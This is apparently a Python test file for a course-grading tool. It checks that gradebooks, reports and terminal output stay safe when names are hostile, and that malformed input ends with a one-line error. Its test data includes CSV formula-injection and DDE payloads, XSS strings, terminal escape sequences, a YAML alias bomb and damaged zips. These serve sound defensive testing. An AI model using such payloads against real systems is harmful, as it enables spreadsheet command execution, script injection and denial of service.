#!/usr/bin/env python3
"""What grade-all hands the instructor, and the bad input it meets, with the stand-in for
make of test_grade_all_run.py:

  - a gradebook safe to open: no cell of summary.csv or gradebook.csv starts as a formula
    (folder names, Gradescope's :name:/:sid:/:email:, Canvas file names, column names);
  - names reach the terminal, the CSV files and report.html with their control
    characters and bytes that are not UTF-8 shown as escapes, and such a folder is graded;
  - a key made of a name never takes another submission's folder, nor OUT's own files;
  - the bad input of a class (damaged zips, Gradescope metadata that Gradescope never
    writes, JOBS=², GRADE_SEED=², an OUT that cannot be written: read-only, a full disk,
    ulimit -f, a FIFO or a link where a report goes) ends with status 2 and one line
    naming it, never a traceback; grade-all's own files are saved as fileio.save saves.

    python3 tests/graded/selfcheck/test_grade_all_input.py
"""
import contextlib
import csv
import errno
import io
import os
import resource
import shutil
import stat
import subprocess
import sys
import unittest
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
CLASS_DIR = os.path.join(os.path.dirname(HERE), "class")
sys.path.insert(0, CLASS_DIR)
sys.path.insert(0, HERE)

import grade_all  # noqa: E402
from gradeall import fileio, layouts, shown  # noqa: E402
from test_grade_all_run import L04, Class, text_of  # noqa: E402

# text a spreadsheet runs, as OWASP's page on CSV injection lists it (no '/': folder names)
FORMULAS = ["=HYPERLINK(\"http:x.example?\"&A1,\"x\")", "+1+cmd|' -C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' -C calc'!A0", "\t=1+1", "\r=1+1", "\uff1d1+1"]
HTML = ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)",
        "</td></tr><tr><td>forged", "&lt;already&gt;", "<!--", "]]><x>", "<svg/onload=alert(1)>"]
TERMINAL = ["\x1b]0;owned\x07", "\x1b[2J\x1b[H", "\x9b31m", "a\u202eevil", "\x08\x08\x08x"]


def unshare_works():
    """Whether this machine lets a test mount a tmpfs in a mount namespace of its own."""
    try:
        return subprocess.run(["unshare", "-rm", "sh", "-c", "mount -t tmpfs none /mnt"],
                              capture_output=True, timeout=30).returncode == 0
    except (OSError, subprocess.TimeoutExpired):
        return False


UNSHARE = unshare_works()


class Input(Class):
    def cells(self, out, name):
        with open(os.path.join(self.tmp, out, name), encoding="utf-8", newline="") as f:
            return [c for row in csv.reader(f) for c in row]

    def assert_no_formula(self, out):
        for name in ("summary.csv", "gradebook.csv"):
            for c in self.cells(out, name):
                self.assertFalse(c[:1] and c[0] in shown.FORMULA_START and
                                 not c.replace(".", "").replace("-", "", 1).isdigit(),
                                 "%s: %r reads as a formula" % (name, c))

    def folder(self, name, text="score 10\ntwo"):
        """A student folder of any name (bytes or text), its Lesson 04 file holding text."""
        d = os.path.join(os.fsencode(self.cls), os.fsencode(name), os.fsencode(L04))
        os.makedirs(os.path.dirname(d), exist_ok=True)
        with open(d, "w") as f:
            f.write(text)

    def cli(self, *more, out="out", env=None, preexec=None, wrap=(), timeout=120):
        """grade_all.py in a process of its own: (status, stdout, stderr)."""
        argv = list(wrap) + [sys.executable, os.path.join(CLASS_DIR, "grade_all.py")] + self.argv(out, *more)
        r = subprocess.run(argv, capture_output=True, env=env, preexec_fn=preexec, timeout=timeout)
        return r.returncode, r.stdout.decode("utf-8"), r.stderr.decode("utf-8")

    def refused(self, words, *more, **kw):
        """grade-all ends with status 2 and one line holding each of words, no traceback."""
        rc, out, err = self.cli(*more, **kw)
        self.assertNotIn("Traceback", out + err)
        self.assertEqual(rc, 2, out + err)
        lines = err.splitlines()
        self.assertEqual(len(lines), 1, err)
        self.assertTrue(lines[0].startswith("grade-all: "), err)
        for w in words:
            self.assertIn(w, lines[0])
        return lines[0]


class TestGradebook(Input):
    def test_no_cell_reads_as_a_formula(self):
        for i, f in enumerate(FORMULAS):
            self.folder(f, "score %d" % i)
        out = self.grade("out", "--columns", "total=@SUM(A1:A9),04=-Lab 4")
        self.assert_no_formula("out")
        summary = self.read("out", "summary.csv").decode()
        self.assertIn('"\'=HYPERLINK(""http:x.example?""&A1,""x"")",0,30,graded,', summary)
        self.assertIn('"\'-2+3",2,30,graded,', summary)
        self.assertIn('\\t=1+1,', summary)  # a tab is shown as \t: no longer a formula's start
        book = self.read("out", "gradebook.csv").decode()
        self.assertTrue(book.startswith('student,id,lesson 01,"\'-Lab 4","\'@SUM(A1:A9)"\n'), book)
        # what a reader gets back is the name, and the key leads to the results
        with open(os.path.join(self.tmp, "out", "summary.csv"), newline="") as f:
            rows = {shown.csv_value(r["student"]): r for r in csv.DictReader(f)}
        self.assertEqual(rows["-2+3"]["score"], "2")
        self.assertTrue(os.path.isfile(os.path.join(self.tmp, "out", rows["-2+3"]["submission"],
                                                    "results.json")))
        self.assertNotIn("Traceback", out)

    def test_gradescope_and_canvas_names_are_text_too(self):
        z = os.path.join(self.tmp, "gs.zip")
        with zipfile.ZipFile(z, "w") as zf:
            zf.writestr("e/submission_metadata.yml", (
                "submission_1:\n  :submitters:\n  - :name: \"=cmd|' /C calc'!A0\"\n"
                "    :sid: '+42'\n    :email: '@evil.example'\n"))
            zf.writestr("e/submission_1/" + L04, "score 4")
        self.cls = z
        self.grade("gs")
        self.assert_no_formula("gs")
        self.assertIn("\"'=cmd|' /C calc'!A0\",\"'+42\",\"'@evil.example\",",
                      self.read("gs", "gradebook.csv").decode())
        z = os.path.join(self.tmp, "canvas.zip")
        with zipfile.ZipFile(z, "w") as zf:
            zf.writestr("=1+2_42_901_" + L04.replace("/", "_"), "x")
            zf.writestr("-sum_43_902_lab.zip", b"not a zip")
        self.cls = z
        self.grade("canvas")
        self.assert_no_formula("canvas")
        self.assertIn("\"'=1+2\",42,", self.read("canvas", "gradebook.csv").decode())

    def test_names_are_escaped_on_the_terminal_in_the_csv_and_the_page(self):
        for i, t in enumerate(TERMINAL):
            self.folder("t%d%s" % (i, t))
        os.symlink("/x" + TERMINAL[0], os.path.join(self.cls, "link" + TERMINAL[1]))
        with open(os.path.join(self.cls, "roster" + TERMINAL[0]), "w"):
            pass
        rc, out, err = self.cli("--seed", "4")
        self.assertEqual(rc, 0, out + err)
        for text in [out, err] + [self.read("out", n).decode() for n in
                                  ("summary.csv", "gradebook.csv", "report.html")]:
            for ch in "\x1b\x07\x08\x9b\u202e":
                self.assertNotIn(ch, text)
        self.assertIn("ignored: roster\\x1b]0;owned\\x07 is a regular file", out)
        self.assertIn("link\\x1b[2J\\x1b[H is a symbolic link (to /x\\x1b]0;owned\\x07)", out)
        self.assertIn("t3a\\u202eevil", self.read("out", "report.html").decode())
        self.assertIn("t2\\u009b31m", self.read("out", "gradebook.csv").decode())

    def test_the_page_escapes_what_names_hold(self):
        for i, h in enumerate(HTML):
            self.folder("h%d%s" % (i, h.replace("/", "")))
        z = os.path.join(self.tmp, "gs")
        os.makedirs(os.path.join(z, "submission_1", "04_callable_objects"))
        with open(os.path.join(z, "submission_metadata.yml"), "w") as f:
            f.write("submission_1:\n  :submitters:\n" + "".join(
                "  - :name: '%s'\n" % h.replace("'", "''") for h in HTML))
        with open(os.path.join(z, "submission_1", L04), "w") as f:
            f.write("score 1")
        self.grade("out")
        self.cls = z
        self.grade("gs")
        for out in ("out", "gs"):
            page = self.read(out, "report.html").decode()
            for h in HTML + [h.replace("/", "") for h in HTML]:
                if "<" in h or ">" in h or '"' in h:
                    self.assertNotIn(h, page)
            self.assertIn("&lt;script&gt;alert(1)&lt;%sscript&gt;" % ("/" if out == "gs" else ""), page)
            self.assertEqual(page.count("<script>"), 1)  # the page's own sorting
            self.assertNotIn("<img src=x", page)
        self.assertIn("&amp;lt;already&amp;gt;", self.read("out", "report.html").decode())

    def test_a_name_that_is_not_utf8_is_graded_and_shown_escaped(self):
        self.folder(b"b\xffad \xc3", "score 9\ntwo")
        self.folder(b"caf\xc3\xa9", "score 8")  # UTF-8, but not a key: a copy, graded
        rc, out, err = self.cli("--seed", "4")
        self.assertEqual(rc, 0, out + err)
        page = self.read("out", "report.html").decode()
        self.assertIn("b\\xffad \\xc3</td><td>graded", page)
        rows = {r["student"]: r for r in csv.DictReader(io.StringIO(self.read("out", "summary.csv").decode()))}
        self.assertEqual((rows["b\\xffad \\xc3"]["score"], rows["b\\xffad \\xc3"]["status"]), ("14", "graded"))
        self.assertEqual(rows["café"]["score"], "8")
        self.assertIn("b\\xffad \\xc3", self.read("out", "gradebook.csv").decode())
        self.assertIn("graded from a copy under the name b-ad", page)
        rc, again, _ = self.cli()  # the same keys: nothing graded again
        self.assertIn("10 unchanged", again)

    def test_a_generated_key_never_takes_a_real_name(self):
        key = layouts.generated_key("zed ann")
        self.folder("zed ann", "score 3")
        self.folder(key, "score 7")
        self.folder("summary.csv", "score 5")  # named as one of OUT's own files
        out = self.grade("out", "--seed", "4")
        self.assertIn("zed ann: graded as %s-2, since %s is another submission's" % (key, key), out)
        self.assertIn("summary.csv: graded as summary.csv-2, since summary.csv is one of OUT's own", out)
        rows = {r["student"]: r for r in csv.DictReader(io.StringIO(self.read("out", "summary.csv").decode()))}
        self.assertEqual((rows["zed ann"]["score"], rows["zed ann"]["submission"]), ("3", key + "-2"))
        self.assertEqual((rows[key]["score"], rows[key]["submission"]), ("7", key))
        self.assertEqual(rows["summary.csv"]["score"], "5")
        self.assertTrue(os.path.isfile(os.path.join(self.tmp, "out", "summary.csv")))
        with open(os.path.join(self.tmp, "out", key + "-2", "results.json")) as f:
            self.assertIn('"score": 3', f.read())

    def test_canvas_keys_made_alike_are_told_apart(self):
        z = os.path.join(self.tmp, "canvas.zip")
        with zipfile.ZipFile(z, "w") as zf:
            zf.writestr("ann lee_42_901_exercises.c", "score 1")
            zf.writestr("ann-lee_42_902_exercises.c", "score 2")
            zf.writestr("bo_%s_903_exercises.c" % ("9" * 30), "score 3")  # a number too long
            zf.writestr("cy_44_904_exercises-%s.c" % ("9" * 5000), "score 4")
        self.cls = z
        buf = io.StringIO()
        with contextlib.redirect_stdout(buf):
            rc = grade_all.main(["grade", "--submissions", z, "--out", os.path.join(self.tmp, "o"),
                                 "--lessons", "04", "--build-root", os.path.join(self.tmp, "build"),
                                 "--make", "%s %s" % (sys.executable, self.make)])
        self.assertEqual(rc, 0, buf.getvalue())
        self.assertIn("graded as ann-lee_42-2, since ann-lee_42 is another submission's", buf.getvalue())
        rows = {r["student"]: r["score"] for r in csv.DictReader(io.StringIO(self.read("o", "summary.csv").decode()))}
        self.assertEqual(rows, {"ann lee": "1", "ann-lee": "2", "cy": "0"})
        self.assertIn("ignored: bo_999999999999999999999999999999_903_exercises.c (not named as "
                      "Canvas names files)", buf.getvalue())
        self.assertIn("exercises-99999", self.read("o", "report.html").decode())


def damaged(path, member, how):
    """path, a zip, with member damaged: 'crc' (a flipped byte of its data), 'method' (a
    compression method zipfile lacks), 'encrypted' (its flag set), 'directory' (the
    signature of its entry in the central directory)."""
    with zipfile.ZipFile(path) as zf:
        local = zf.getinfo(member).header_offset
    with open(path, "rb") as f:
        b = bytearray(f.read())
    name = member.encode()
    central = b.find(b"PK\x01\x02")
    while b[central + 46:central + 46 + len(name)] != name:
        central = b.find(b"PK\x01\x02", central + 1)
    data = local + 30 + len(name) + int.from_bytes(b[local + 28:local + 30], "little")
    if how == "crc":
        b[data + 2] ^= 0xff
    elif how == "method":
        b[local + 8:local + 10] = b[central + 10:central + 12] = (99).to_bytes(2, "little")
    elif how == "encrypted":
        b[local + 6] |= 1
        b[central + 8] |= 1
    elif how == "directory":
        b[central + 3] = 9
    with open(path, "wb") as f:
        f.write(b)


class TestBadInput(Input):
    META = "e/submission_metadata.yml"

    def export(self, yml=None, compress=zipfile.ZIP_DEFLATED):
        z = os.path.join(self.tmp, "export.zip")
        with zipfile.ZipFile(z, "w") as zf:
            zf.writestr(self.META, yml or "submission_1:\n  :submitters:\n  - :name: Ada\n" * 3,
                        compress_type=compress)
            zf.writestr("e/submission_1/" + L04, "score 10\n" * 40, compress_type=compress)
        self.cls = z
        return z

    def test_damaged_zips(self):
        for how in ("crc", "method", "encrypted", "directory"):
            damaged(self.export(), self.META, how)
            self.refused(["SUBMISSIONS=", "export.zip: a damaged zip archive", "download the export again"])
        z = self.export()
        with open(z, "r+b") as f:
            f.truncate(os.path.getsize(z) - 10)
        self.refused(["export.zip is a file but not a zip archive"])
        # a damaged submission in a good export: that one's files are not taken, and it says so
        damaged(self.export(), "e/submission_1/" + L04, "crc")
        rc, out, err = self.cli("--seed", "1")
        self.assertEqual(rc, 0, out + err)
        self.assertIn("cannot be read from the archive (Bad CRC-32", self.read("out", "report.html").decode())
        z = os.path.join(self.tmp, "canvas.zip")
        with zipfile.ZipFile(z, "w") as zf:
            zf.writestr("ann_42_901_lab.zip", b"PK\x03\x04 not a zip after all")
        self.cls = z
        rc, out, err = self.cli("--seed", "1", out="canvas")
        self.assertEqual(rc, 0, out + err)
        self.assertIn("lab.zip is not a zip archive that can be read", self.read("canvas", "report.html").decode())

    def test_gradescope_metadata_that_gradescope_never_writes(self):
        deep = "submission_1: " + "[" * 100000 + "]" * 100000 + "\n"
        laughs = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
            "%s: &%s [*%s, *%s, *%s, *%s, *%s, *%s, *%s, *%s, *%s]\n" % ((chr(98 + i),) * 2 + (chr(97 + i),) * 9)
            for i in range(8)) + "submission_1:\n  :submitters:\n  - :name: *i\n"
        for yml, words in (("7:\n  :submitters: []\n", ["the key 7 is a number, not a submission folder's name"]),
                           ("yes:\n  :submitters: []\n", ["the key True is a true/false value"]),
                           ("submission_1:\n  :submitters: 7\n", ["entry submission_1: :submitters: is a number"]),
                           ("submission_1: 7\n", ["entry submission_1: is a number, not a mapping"]),
                           ("- submission_1\n", ["expected one entry per submission folder", "found a list"]),
                           ("submission_1:\n  :submitters:\n  - :name: [a, b]\n", ["submitter 1: :name: is a list"]),
                           ("submission_1:\n  :submitters:\n  - 7\n", ["submitter 1: is a number, not a mapping"]),
                           (deep, ["line 1: nested more than 16 levels deep"]),
                           (laughs, ["line 1: the anchor &a is refused"]),
                           ("submission_1:\n  :submitters:\n  - :name: *x\n", ["the alias *x is refused"]),
                           ("submission_1: [\n", ["not YAML Gradescope wrote"])):
            folder = os.path.join(self.tmp, "gs")
            shutil.rmtree(folder, ignore_errors=True)
            os.makedirs(os.path.join(folder, "submission_1"))
            with open(os.path.join(folder, "submission_metadata.yml"), "w") as f:
                f.write(yml)
            self.cls = folder
            self.refused(["submission_metadata.yml"] + words, timeout=60)
            self.export(yml)
            self.refused(["export.zip:" + self.META] + words, timeout=60)

    def test_numbers_that_only_look_like_numbers(self):
        for more, words in ((("--jobs", "²"), ["JOBS=²: give the number"]),
                            (("--jobs", "０"), ["JOBS=０"]),
                            (("--jobs", "0"), ["JOBS=0"]),
                            (("--jobs", "100000"), ["JOBS=100000", "1 to 1024"]),
                            (("--jobs", "4\x1b[2J"), ["JOBS=4\\x1b[2J"]),
                            (("--seed", "²"), ["GRADE_SEED=²: give a positive integer"]),
                            (("--seed", "٣"), ["GRADE_SEED=٣"]),
                            (("--seed", str(1 << 64)), ["GRADE_SEED=18446744073709551616"]),
                            (("--seed", "9" * 5000), ["GRADE_SEED=9999", "... (5000 characters)"]),
                            (("--shard", "１/２"), ["SHARD=１/２: give K/N"])):
            self.refused(words, *more)
        self.assertEqual(self.graded(), [])
        os.makedirs(os.path.join(self.tmp, "out"), exist_ok=True)
        with open(os.path.join(self.tmp, "out", "seed.txt"), "w") as f:
            f.write("²\n")
        self.refused(["seed.txt holds '²'", "delete it to draw a new one"])
        rc, out, err = self.cli("--seed", "18446744073709551615")
        self.assertEqual(rc, 0, out + err)

    def test_an_out_that_cannot_be_written(self):
        out = os.path.join(self.tmp, "out")
        os.makedirs(out)
        os.mkfifo(os.path.join(out, "summary.csv"))
        self.refused(["out/summary.csv: cannot save the class summary here: it is a FIFO"], timeout=30)
        os.unlink(os.path.join(out, "summary.csv"))
        with open(os.path.join(self.tmp, "elsewhere.html"), "w") as f:
            f.write("mine")
        os.symlink(os.path.join(self.tmp, "elsewhere.html"), os.path.join(out, "report.html"))
        self.refused(["out/report.html: cannot save the class report here: it is a symbolic link"])
        with open(os.path.join(self.tmp, "elsewhere.html")) as f:
            self.assertEqual(f.read(), "mine")
        self.assertEqual(self.graded(), [])  # refused before anything was graded
        os.unlink(os.path.join(out, "report.html"))
        os.mkdir(os.path.join(out, "gradebook.csv"))
        self.refused(["out/gradebook.csv: cannot save the gradebook here: it is a folder"])
        os.rmdir(os.path.join(out, "gradebook.csv"))
        os.symlink("/", os.path.join(out, ".tmp"))
        self.refused(["out/.tmp: the folder of grade-all's own is a symbolic link"])

    @unittest.skipUnless(UNSHARE, "needs unshare -rm (a mount namespace) to mount a read-only "
                                  "folder and a full file system")
    def test_read_only_full_and_ulimit(self):
        out = os.path.join(self.tmp, "ro")
        os.makedirs(out)
        self.refused(["ro/summary.csv: cannot save the class summary", "Read-only file system"],
                     out="ro", wrap=["unshare", "-rm", "sh", "-c", 'mount --bind "$0" "$0" && '
                                     'mount -o remount,bind,ro "$0" && exec "$@"', out])
        self.refused(["ro/sub: cannot make the output folder (OUT): Read-only file system"],
                     out="ro/sub", wrap=["unshare", "-rm", "sh", "-c", 'mount --bind "$0" "$0" && '
                                         'mount -o remount,bind,ro "$0" && exec "$@"', out])
        full = os.path.join(self.tmp, "full")
        os.makedirs(full)
        self.refused(["full/seed.txt: cannot save the class's seed: writing failed: No space left "
                      "on device (the disk is full)"], out="full",
                     wrap=["unshare", "-rm", "sh", "-c", 'mount -t tmpfs -o size=64k none "$0" && '
                           'head -c 1M /dev/zero > "$0/filler" 2>/dev/null; exec "$@"', full])
        # a file-size limit that the results fit under but the report does not
        line = self.refused(["out/report.html: cannot save the class report: writing failed: File "
                             "too large (a file-size limit: ulimit -f)"], "--seed", "2",
                            preexec=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (3000, 3000)))
        self.assertEqual([f for f in os.listdir(os.path.join(self.tmp, "out")) if ".tmp-" in f], [], line)


class TestFileio(unittest.TestCase):
    def setUp(self):
        import tempfile
        self.tmp = tempfile.mkdtemp(prefix="grade-all-fileio-")

    def tearDown(self):
        shutil.rmtree(self.tmp)

    def path(self, name):
        return os.path.join(self.tmp, name)

    def test_save_keeps_the_mode_and_refuses_what_is_not_a_file(self):
        p = self.path("summary.csv")
        fileio.save(p, "one\n", "summary")
        os.chmod(p, 0o600)
        fileio.save(p, "two\n", "summary")
        self.assertEqual((stat.S_IMODE(os.stat(p).st_mode), text_of(p)), (0o600, "two\n"))
        os.chmod(p, 0o444)
        # as cp, root replaces it; so the refusal is tried as a user without that right (in a
        # user namespace of its own, when this runs as root)
        code = ("import sys; sys.path.insert(0, %r); from gradeall import fileio\n"
                "try:\n    fileio.save(%r, 'three', 'summary')\nexcept fileio.FileError as e:\n"
                "    print(e)" % (CLASS_DIR, p))
        wrap = ["unshare", "-U"] if os.geteuid() == 0 else []
        r = subprocess.run(wrap + [sys.executable, "-c", code], capture_output=True, text=True)
        if r.returncode == 0 or os.geteuid() != 0:
            self.assertIn("summary.csv: cannot save the summary: the file is read-only (mode 0444): "
                          "make it writable (chmod u+w) or remove it", r.stdout, r.stderr)
        self.assertEqual(text_of(p), "two\n")
        fileio.save(p, "four\n", "summary", replace_readonly=True)
        self.assertEqual((stat.S_IMODE(os.stat(p).st_mode), text_of(p)), (0o444, "four\n"))
        os.mkfifo(self.path("fifo"))
        os.symlink(p, self.path("link"))
        for name, kind in (("fifo", "a FIFO"), ("link", "a symbolic link")):
            with self.assertRaisesRegex(fileio.FileError, "%s: cannot save the summary here: it is %s"
                                        % (name, kind)):
                fileio.save(self.path(name), "x", "summary")
        self.assertEqual(text_of(p), "four\n")
        with self.assertRaisesRegex(fileio.FileError, "cannot save the summary here: it is a character device"):
            fileio.save("/dev/null", "x", "summary")
        with self.assertRaisesRegex(fileio.FileError, r"creating a new file beside it failed: No such "
                                    r"file or directory \(does the folder exist\?\)"):
            fileio.save(self.path("no/such"), "x", "summary")
        self.assertEqual(sorted(os.listdir(self.tmp)), ["fifo", "link", "summary.csv"])

    def test_a_killed_save_leaves_its_file_for_the_next_to_remove(self):
        p = self.path("report.html")
        dead = subprocess.Popen(["true"])
        dead.wait()
        stale = "%s.tmp-%s-%d-0123abcd" % (p, fileio._HOST, dead.pid)
        alive = "%s.tmp-%s-%d-0123abcd" % (p, fileio._HOST, os.getppid())
        other = "%s.tmp-otherhost-%d-0123abcd" % (p, dead.pid)  # another machine's, on a shared OUT
        for f in (stale, alive, other):
            open(f, "w").close()
        fileio.save(p, "x", "report")
        self.assertEqual(sorted(os.listdir(self.tmp)), sorted(os.path.basename(f) for f in
                                                              (p, alive, other)))

    def test_new_never_replaces(self):
        p = self.path("seed.txt")
        self.assertTrue(fileio.save(p, "1\n", "seed", new=True))
        self.assertFalse(fileio.save(p, "2\n", "seed", new=True))
        self.assertEqual(text_of(p), "1\n")
        self.assertEqual(os.listdir(self.tmp), ["seed.txt"])

    def test_read_never_waits_nor_follows(self):
        os.mkfifo(self.path("fifo"))  # with no writer: a blocking open would wait for ever
        with self.assertRaisesRegex(fileio.FileError, "fifo: cannot read this log: it is a FIFO"):
            fileio.read(self.path("fifo"), "log")
        with self.assertRaisesRegex(fileio.FileError, "zero: cannot read this log: it is a character device"):
            fileio.read("/dev/zero", "log", follow=True)
        with open(self.path("big"), "wb") as f:
            f.write(b"a" * 100 + b"b" * 100)
        os.symlink(self.path("big"), self.path("link"))
        with self.assertRaisesRegex(fileio.FileError, "link: cannot read this log: it is a symbolic link"):
            fileio.read(self.path("link"), "log")
        self.assertEqual(len(fileio.read(self.path("link"), "log", follow=True)), 200)
        with self.assertRaisesRegex(fileio.FileError, "200 bytes, more than the 150 bytes a log may have"):
            fileio.read(self.path("big"), "log", 150)
        self.assertEqual(fileio.read(self.path("big"), "log", 10, part="head"), b"a" * 10)
        self.assertEqual(fileio.read(self.path("big"), "log", 10, part="tail"), b"b" * 10)
        with self.assertRaises(fileio.FileError) as e:
            fileio.read(self.path("none"), "log")
        self.assertEqual(e.exception.errno, errno.ENOENT)
        lock = fileio.open_lock(self.path("lock"))
        lock.close()
        with self.assertRaisesRegex(fileio.FileError, "cannot use this lock file: it is a FIFO"):
            fileio.open_lock(self.path("fifo"))


class TestShown(unittest.TestCase):
    def test_escape_as_err_escape(self):
        self.assertEqual(shown.escape("a\nb\rc\td\x1b\x7f\x85\u202e\U000e0041é\\"),
                         "a\\nb\\rc\\td\\x1b\\x7f\\u0085\\u202e\\U000e0041é\\")
        self.assertEqual(shown.escape(b"b\xffad\xc3"), "b\\xffad\\xc3")
        self.assertEqual(shown.escape(os.fsdecode(b"b\xffad")), "b\\xffad")
        self.assertEqual(shown.escape("x" * 10, 4), "xxxx... (10 characters)")
        self.assertEqual(shown.escape(shown.escape("\x1b\u202e")), shown.escape("\x1b\u202e"))

    def test_csv_cells(self):
        self.assertEqual(shown.csv_cell("=1+1"), '"\'=1+1"')
        self.assertEqual(shown.csv_cell('@x "y"'), '"\'@x ""y"""')
        self.assertEqual(shown.csv_cell("-1.5"), "-1.5")  # a number stays one
        self.assertEqual(shown.csv_cell("2e+06"), "2e+06")
        self.assertEqual(shown.csv_cell("-1+1"), '"\'-1+1"')
        self.assertEqual(shown.csv_cell("a,b"), '"a,b"')
        self.assertEqual(shown.csv_cell(" a"), '" a"')
        self.assertEqual(shown.csv_cell("\t=1"), "\\t=1")
        self.assertEqual(shown.csv_cell("O'Brien"), "O'Brien")
        self.assertEqual(shown.csv_value(next(csv.reader([shown.csv_cell("=1+1")]))[0]), "=1+1")


if __name__ == "__main__":
    unittest.main(verbosity=1)
